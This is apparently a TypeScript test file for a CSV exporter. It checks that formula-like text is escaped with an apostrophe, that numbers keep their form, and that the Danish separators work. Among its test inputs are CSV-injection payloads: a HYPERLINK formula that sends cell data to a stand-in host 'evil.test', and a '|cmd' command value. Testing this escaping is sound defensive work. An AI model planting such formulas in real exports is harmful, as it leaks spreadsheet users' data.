/** A file for spreadsheets: what somebody wrote is never run as a formula, and numbers stay numbers. */
import { CSV_STYLES, csvOf } from '../src/rows/csv';
import type { Cell, Table } from '../src/rows/tableOf';

const tableWith = (...values: Cell['value'][]): Table => ({
  columns: [{ key: 'a', label: 'a', isNumeric: false }],
  rows: values.map((value) => [{ value }]),
});
const cells = (table: Table, style: 'da' | 'en' = 'en') =>
  csvOf(table, CSV_STYLES[style]).replace('\ufeff', '').split('\r\n').slice(1, -1);

it.each([
  '=1+1',
  '+45 12 34 56 78',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '\u00a0=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠a',
  '=HYPERLINK("http://evil.test?"&A1,"x")',
  '|cmd',
])('%j is text with an apostrophe before it, not a formula', (text) => {
  const csv = csvOf(tableWith(text), CSV_STYLES.en);
  expect(csv).toContain(`"'${text.replaceAll('"', '""')}"`);
});

it('a number is a number, also when it is negative; a word of digits stays a word', () => {
  expect(cells(tableWith(-5, 1.5, 1e21, '0561', 'minus -5', true))).toEqual([
    '-5',
    '1.5',
    '1e+21',
    '"0561"',
    '"minus -5"',
    'true',
  ]);
});

it('the Danish form has semicolons and decimal commas, so that 1,5 is no date', () => {
  const table: Table = {
    columns: ['a', 'b'].map((label) => ({ key: label, label, isNumeric: false })),
    rows: [[{ value: 1.5 }, { value: 'a;b "c"\nd' }]],
  };
  expect(csvOf(table, CSV_STYLES.da)).toBe('\ufeff"a";"b"\r\n1,5;"a;b ""c""\nd"\r\n');
});

it('what is withheld and what is unknown is said, what is empty is empty', () => {
  const row: Cell[] = [{ value: null }, { value: null, absence: 'WITHHELD' }, { value: null, absence: 'FAILED' }];
  const columns = ['=a', 'b', 'c'].map((label) => ({ key: label, label, isNumeric: false }));
  expect(csvOf({ columns, rows: [row] }, CSV_STYLES.en)).toBe('\ufeff"\'=a","b","c"\r\n,WITHHELD,FAILED\r\n');
});
